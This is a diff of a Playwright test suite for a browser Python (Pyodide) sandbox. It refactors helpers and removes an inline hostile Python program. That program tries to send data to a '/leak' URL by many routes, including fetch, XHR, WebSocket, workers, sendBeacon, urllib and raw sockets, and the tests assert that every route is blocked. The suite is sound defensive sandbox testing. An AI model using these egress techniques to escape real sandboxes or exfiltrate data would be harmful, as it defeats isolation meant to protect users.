@@ -1,19 +1,18 @@
 /** What a hostile Python program may try through the language of the page, and through Python itself. */
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import type { Page } from "playwright-core";
-import { open, printed, ready, runProgram, useSite, write } from "./browser";
+import { choosePython, open, printed, ready, runProgram, useSite, write } from "./browser";
+import { hostilePython } from "./programs";
 
 const site = useSite();
-const choice = (page: Page, name: string) => page.locator(".switch-choice", { hasText: name });
 
 test("A1, A2: no request leaves the sandbox from Python, to anywhere, by any means", async () => {
   const { page, context } = await open(site());
-  await choice(page, "Python").click();
+  await choosePython(page);
   await ready(page);
   const before = site().requests.length;
   for (const target of [site().elsewhere, new URL(site().url).origin]) {
-    await runProgram(page, hostile(`${target}/leak`));
+    await runProgram(page, hostilePython(`${target}/leak`));
     const found = await printed(page);
     assert.match(found, /open_url=(threw|nothing)/);
     assert.doesNotMatch(found, /=reached/);
@@ -24,79 +23,9 @@ test("A1, A2: no request leaves the sandbox from Python, to anywhere, by any mea
   await context.close();
 });
 
-const hostile = (url: string) => `import js
-from pyodide.ffi import create_proxy
-from js import Object
-
-URL = "${url}"
-
-def attempt(name, action):
-    try:
-        result = action()
-    except BaseException as error:
-        result = "threw"
-    print(f"{name}={'reached' if result == 'reached' else 'nothing' if result != 'threw' else result}")
-
-def fetch():
-    js.fetch(URL).catch(lambda *_: None)
-
-def xhr():
-    request = js.XMLHttpRequest.new()
-    request.open("GET", URL, False)
-    request.send()
-    return "reached"
-
-def socket():
-    js.WebSocket.new(URL.replace("http", "ws"))
-
-def events():
-    js.EventSource.new(URL)
-
-def scripts():
-    js.importScripts(URL)
-    return "reached"
-
-def imported():
-    js.eval("import")(URL)
-
-def dynamic():
-    js.Function.new("url", "return import(url).catch(() => 0)")(URL)
-
-def worker():
-    code = f"fetch('{URL}').catch(() => 0); try {{ importScripts('{URL}') }} catch {{}}"
-    blob = js.Blob.new([code])
-    js.Worker.new(js.URL.createObjectURL(blob))
-
-def beacon():
-    js.navigator.sendBeacon(URL, "x")
-
-def open_url():
-    from pyodide.http import open_url
-    open_url(URL)
-    return "reached"
-
-def urllib():
-    import urllib.request
-    urllib.request.urlopen(URL, timeout=1).read()
-    return "reached"
-
-def raw():
-    import socket
-    from urllib.parse import urlsplit
-    connection = socket.create_connection(urlsplit(URL).netloc.split(":"), timeout=1)
-    connection.send(b"GET /leak HTTP/1.0\\r\\n\\r\\n")
-
-def package():
-    import pyodide_js
-    pyodide_js.loadPackage(URL).catch(lambda *_: None)
-
-for action in [fetch, xhr, socket, events, scripts, imported, dynamic, worker, beacon, open_url, urllib, raw, package]:
-    attempt(action.__name__, action)
-`;
-
 test("A3: Python does not reach the page, its storage or its frames", async () => {
   const { page, context } = await open(site());
-  await choice(page, "Python").click();
+  await choosePython(page);
   await ready(page);
   await runProgram(
     page,
@@ -123,7 +52,7 @@ null`,
 
 test("what one program leaves running is gone when another is opened", async () => {
   const { page, context } = await open(site());
-  await choice(page, "Python").click();
+  await choosePython(page);
   await ready(page);
   const spy = `import js, sys
 sys.spied = True
@@ -140,7 +69,7 @@ print("in")
 
 test("A7: a Python program that spoils what the worker uses harms itself alone", async () => {
   const { page, context } = await open(site());
-  await choice(page, "Python").click();
+  await choosePython(page);
   await ready(page);
   await write(
     page,
